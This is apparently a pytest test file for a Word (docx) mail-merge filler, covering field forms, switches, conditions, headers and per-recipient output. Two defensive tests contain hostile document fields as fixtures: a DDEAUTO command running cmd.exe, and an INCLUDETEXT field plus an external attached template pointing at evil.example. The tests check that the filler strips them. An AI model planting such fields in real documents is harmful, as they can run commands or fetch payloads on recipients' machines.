"""Word documents are filled whatever program wrote their fields, and nothing of the fields is left."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from models.errors import RuleError
from models.exchange import content, word
from models.merge_field import FIELDS, MergeField, UnknownFieldsError, Values, find
from tests.word_files import (
    DOCUMENTS,
    W,
    all_xml,
    char,
    control,
    docx,
    field,
    instruction,
    members,
    packed,
    paragraph,
    run,
    xml_of,
)

OF_FIELDS = ("fldChar", "instrText", "fldSimple", "w:sdt", "MERGEFIELD", "«", "MergeField")


def text_of(document: bytes) -> str:
    """What a reader sees: the text with line breaks and tabs, a line for each paragraph."""
    root = etree.fromstring(members(document)["word/document.xml"])
    name = "{" + W.split('"')[1] + "}"
    marks = {f"{name}t": "", f"{name}br": "\n", f"{name}tab": "\t"}
    lines = []
    for each in root.iter(f"{name}p"):
        lines.append("".join((e.text or "") + marks[e.tag] for e in each.iter(*marks)))
    return "\n".join(lines)


def filled(body: str, **values: str) -> str:
    made = word.fill(docx(body), values)
    left = [piece for piece in OF_FIELDS if piece in xml_of(made)]
    assert not left
    return text_of(made)


NAME = {"contact_name": "Nell Ashby"}


@pytest.mark.parametrize(
    "written",
    [
        field(" MERGEFIELD Name "),
        field(' MERGEFIELD "contact name" \\* MERGEFORMAT '),
        field(" mergefield CALC_Name \\m "),
        char("begin") + instruction(" MERGEFIELD  Contact_Name ") + char("end"),
        char("begin") + instruction(" MERGE") + instruction("FIELD Na") + instruction("me ") + char("end"),
        '<w:fldSimple w:instr=" MERGEFIELD Name "><w:r><w:t>«Name»</w:t></w:r></w:fldSimple>',
        '<w:fldSimple w:instr=" MERGEFIELD Name "/>',
        run(
            xml='<w:fldChar w:fldCharType="begin"/><w:instrText>MERGEFIELD Name</w:instrText>'
            '<w:fldChar w:fldCharType="separate"/><w:t>«Name»</w:t><w:fldChar w:fldCharType="end"/>'
        ),
        control(run("Name"), alias="#Nav: /Integer/Contact_Name"),
        control(run("Click here"), tag="Contact.Name", more="<w:showingPlcHdr/>"),
        control(run("x"), alias="Full name"),
    ],
)
def test_a_field_is_filled_in_every_form_it_is_written_in(written: str) -> None:
    assert filled(paragraph(run("To "), written, run("!")), **NAME) == "To Nell Ashby!"


@pytest.mark.parametrize(
    ("switches", "value", "expected"),
    [
        ("\\* Upper", "van der Berg", "VAN DER BERG"),
        ("\\* lower", "ÄÖ", "äö"),
        ("\\* FirstCap", "o'Neill McX", "O'Neill McX"),
        ("\\* Caps", "mary-ann o'neill", "Mary-ann O'neill"),
        ('\\b "Attn. " \\f ", esq."', "Nell", "Attn. Nell, esq."),
        ('\\b "Attn. " \\f ", esq."', "", ""),
        ('\\@ "d MMMM" \\* Upper \\* MERGEFORMAT', "a", "A"),
    ],
)
def test_switches_of_a_field_are_obeyed(switches: str, value: str, expected: str) -> None:
    quoted = switches.replace('"', "&quot;")
    written = f'<w:fldSimple w:instr=" MERGEFIELD Name {quoted} "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    assert filled(paragraph(run("["), written, run("]")), contact_name=value) == f"[{expected}]"


def test_the_formatting_of_a_field_stays() -> None:
    written = char("begin") + instruction("MERGEFIELD Name", "<w:b/>") + char("separate") + char("end")
    made = xml_of(word.fill(docx(paragraph(written)), NAME))
    assert "<w:rPr><w:b/></w:rPr><w:t>Nell Ashby</w:t>" in made


def test_a_field_over_two_paragraphs_is_filled_in_the_first() -> None:
    body = paragraph(run("a "), char("begin"), instruction("MERGEFIELD Name"), char("separate"), run("«N"))
    body += paragraph(run("ame»"), char("end")) + paragraph(run("b"))
    assert filled(body, **NAME) == "a Nell Ashby\nb"


def test_lines_and_tabs_of_a_value_are_those_of_word() -> None:
    address = "Mill & Söhne <x>\r\n4 Quay\tStreet\nДувр\x0b\x00"
    made = filled(paragraph(field("MERGEFIELD Contact_Mail_Address")), contact_mail_address=address)
    assert made == "Mill & Söhne <x>\n4 Quay\tStreet\nДувр"


def test_conditions_on_a_field_are_decided() -> None:
    nested = char("begin") + instruction("MERGEFIELD County") + char("end")
    body = paragraph(
        char("begin"),
        instruction(' IF "'),
        nested,
        instruction('" = "Kent" "local" "far"'),
        char("separate"),
        run("old"),
        char("end"),
    )
    made = [text_of(word.fill(docx(body), {"contact_county": county})) for county in ("Kent", "Essex", "")]
    assert made == ["local", "far", "far"]


def test_a_field_within_a_link_shows_its_value() -> None:
    body = paragraph(
        char("begin"),
        instruction(' HYPERLINK "https://example.com" '),
        char("separate"),
        field("MERGEFIELD Name"),
        char("end"),
    )
    assert text_of(word.fill(docx(body), NAME)) == "Nell Ashby"


def test_fields_that_fetch_or_run_something_keep_only_what_they_show() -> None:
    body = paragraph(
        field('DDEAUTO c:\\\\cmd.exe "/c calc"', "shown"),
        field("AUTOTEXTLIST", " Sincerely"),
        field('INCLUDETEXT "http://evil.example/x"', ""),
        field("MACROBUTTON Run Click", ""),
    )
    assert filled(body) == "shown Sincerely"


def test_fields_that_are_not_ours_stay_however_they_are_nested() -> None:
    pages = field(" PAGE ", "1")
    entry = f"<w:hyperlink>{pages}</w:hyperlink>"
    contents = paragraph(char("begin"), instruction(" TOC "), char("separate"), entry)
    link = (
        char("begin") + instruction(' HYPERLINK "mailto:') + field("MERGEFIELD Email", "") + instruction('" ')
    )
    body = contents + paragraph(run("end"), char("end"))
    body += paragraph(link, char("separate"), run("mail"), char("end")) + paragraph(pages)
    made = xml_of(word.fill(docx(body), {"contact_email": "n@x.example"}))
    assert [made.count(each) for each in (" TOC ", " PAGE ", "fldChar ")] == [1, 2, 4 * 3]
    assert "n@x.example</w:instrText>" in made


@pytest.mark.parametrize("next_record", ["NEXT", "NEXTIF 1 = 1", "SKIPIF 1 = 1"])
def test_a_field_for_the_next_record_is_refused_by_name(next_record: str) -> None:
    with pytest.raises(RuleError, match=next_record.split()[0]):
        word.fill(docx(paragraph(field(next_record))), {})


@pytest.mark.parametrize("broken", [char("begin") + instruction("MERGEFIELD Name"), char("end")])
def test_a_field_without_beginning_or_end_is_told(broken: str) -> None:
    with pytest.raises(RuleError, match="no beginning or end"):
        word.fill(docx(paragraph(broken)), NAME)


def test_unknown_fields_are_named_with_those_that_look_like_them() -> None:
    body = paragraph(field("MERGEFIELD Contact_Nmae"), field("MERGEFIELD Shoe_Size"))
    body += paragraph(control(run("x"), alias="#Nav: /Integer/Colour"))
    with pytest.raises(UnknownFieldsError, match="did you mean contact_name") as raised:
        word.fill(docx(body), NAME)
    assert raised.value.names == ("Contact_Nmae", "Shoe_Size", "Colour")


def test_a_field_without_a_value_hinders_only_documents_that_use_it() -> None:
    values = Values(NAME, {"formal_salutation": "There is no formula."})
    assert text_of(word.fill(docx(paragraph(field("MERGEFIELD Name"))), values)) == "Nell Ashby"
    with pytest.raises(RuleError, match="There is no formula"):
        word.fill(docx(paragraph(field("GREETINGLINE \\f x"))), values)


def test_controls_that_stand_in_cells_and_around_paragraphs_keep_the_shape_of_the_document() -> None:
    row = control("<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>", alias="#Nav: /A/City")
    table = f"<w:tbl><w:tr><w:tc>{paragraph(run('City'))}</w:tc>{row}</w:tr></w:tbl>"
    block = control(paragraph(run("1")) + paragraph(run("2")), alias="#Nav: /A/Contact_Name")
    repeated = control(block, alias="#Nav: /A/B")
    made = word.fill(docx(table + repeated), {**NAME, "contact_city": "Riga"})
    assert text_of(made) == "City\nRiga\nNell Ashby"
    assert xml_of(made).count("<w:tc>") == 2


def test_controls_that_show_a_property_of_the_document_stay() -> None:
    title = control(
        run("Our offer"), alias="Company", more='<w:dataBinding w:xpath="/x:Properties[1]/x:Company[1]"/>'
    )
    assert text_of(word.fill(docx(paragraph(title)), {"contact_company_name": "Mill"})) == "Our offer"


def test_controls_of_the_author_stay_and_an_empty_one_is_named() -> None:
    mine = control(run("mine"), alias="Chapter 1")
    assert text_of(word.fill(docx(paragraph(mine)), {})) == "mine"
    with pytest.raises(UnknownFieldsError, match="Choose an item"):
        word.fill(docx(paragraph(control(run("Choose an item"), more="<w:showingPlcHdr/>"))), {})


def test_headers_are_filled_too() -> None:
    document = docx(paragraph(run("x")), header=paragraph(field("MERGEFIELD Our_Name")))
    made = word.fill(document, {"our_name": "Ö"})
    assert "<w:t>Ö</w:t>" in xml_of(made, "word/header1.xml")


def test_one_file_for_all_has_every_recipient_with_a_header_of_its_own() -> None:
    document = docx(paragraph(field("MERGEFIELD Name")), header=paragraph(field("MERGEFIELD City")))
    made = word.fill_many(document, [{"contact_name": n, "contact_city": n.upper()} for n in ("a", "b", "c")])
    assert text_of(made).split() == ["a", "b", "c"]
    assert xml_of(made).count('<w:type w:val="nextPage"/>') >= 2
    headers = [xml_of(made, name) for name in members(made) if "header" in name]
    assert sorted(x for x in ("A", "B", "C") for h in headers if f">{x}<" in h) == ["A", "B", "C"]
    assert not [piece for piece in OF_FIELDS if piece in xml_of(made)]


def test_a_file_for_nobody_is_refused() -> None:
    with pytest.raises(RuleError, match="nobody"):
        word.fill_many(docx(""), [])


def test_a_template_of_word_becomes_a_document() -> None:
    parts = members(docx(paragraph(field("MERGEFIELD Name"))))
    types = parts["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")
    made = word.fill(packed({**parts, "[Content_Types].xml": types}), NAME)
    assert text_of(made) == "Nell Ashby"
    assert "template.main" not in xml_of(made, "[Content_Types].xml")


def test_a_document_without_settings_is_filled() -> None:
    parts = members(docx(paragraph(field("MERGEFIELD Name"))))
    del parts["word/settings.xml"]
    types = parts["[Content_Types].xml"].split(b'<Override PartName="/word/settings.xml"')[0] + b"</Types>"
    assert text_of(word.fill(packed({**parts, "[Content_Types].xml": types}), NAME)) == "Nell Ashby"


def test_the_data_source_of_a_mail_merge_is_cut_off() -> None:
    settings = f"<w:settings {W}><w:mailMerge/><w:attachedTemplate/></w:settings>"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        'Id="rId1" Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    parts: dict[str, bytes | str] = {**members(docx(""))}
    parts |= {"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations}
    left = all_xml(word.fill(packed(parts), {}))
    assert "evil.example" not in left
    assert "mailMerge" not in left
    assert "attachedTemplate" not in left


@pytest.mark.parametrize("name", list(DOCUMENTS))
def test_documents_of_business_central_fill_without_editing(name: str) -> None:
    values = {each.name: f"{each.name} & Ж" for each in FIELDS}
    used = word.fields(DOCUMENTS[name])
    made = word.fill(DOCUMENTS[name], values)
    assert len(used) >= 4
    assert "formal_salutation" in used
    assert [each for each in used if values[each] not in text_of(made)] == []
    left = (
        *OF_FIELDS,
        "showingPlcHdr",
        "Formal_Salutation",
        "mailMerge",
        "DataSource",
        "dataBinding",
        "w:drawing/",
    )
    assert [piece for piece in left if piece in all_xml(made)] == []
    assert "Zoë" in text_of(word.fill_many(DOCUMENTS[name], [values, {**values, used[0]: "Zoë"}]))


def test_a_new_document_is_empty_and_can_be_filled() -> None:
    assert word.fields(word.blank()) == ()
    made = word.fill(word.blank(["Dear {{contact name}} & <co>,"]), NAME)
    assert text_of(made) == "Dear Nell Ashby & <co>,"


def test_a_document_becomes_html_with_its_pictures_beside_it() -> None:
    made = content.rendered("docx", word.fill(word.blank(["{{Name}}"]), {"contact_name": "<b>&\nx"}))
    assert made.html == "<p>&lt;b&gt;&amp;<br />x</p>"
    assert made.pictures == ()
    assert content.plain("docx", word.blank(["Hello & bye"])) == "Hello & bye\n"


@settings(max_examples=40)
@given(st.text(max_size=60))
def test_any_text_comes_through_as_it_is(value: str) -> None:
    document = docx(paragraph(run("["), field("MERGEFIELD Name"), run("]")))
    made = text_of(word.fill(document, {"contact_name": value}))
    kept = value.replace("\r\n", "\n").replace("\r", "\n")
    assert made == f"[{''.join(letter for letter in kept if allowed(letter))}]"


def allowed(letter: str) -> bool:
    """Whether XML can have it at all."""
    if letter < " ":
        return letter in "\t\n"
    return not "\ud800" <= letter <= "\udfff" and letter not in "\ufffe\uffff"


@given(st.sampled_from(FIELDS), st.sampled_from("_ ./-"), st.booleans())
def test_a_field_is_found_whatever_case_and_punctuation(each: MergeField, mark: str, upper: bool) -> None:
    for name in (each.name, *each.aliases):
        spelled = name.replace("_", mark)
        assert find(spelled.upper() if upper else spelled.title()) is not None
    assert find(each.name) == each.name
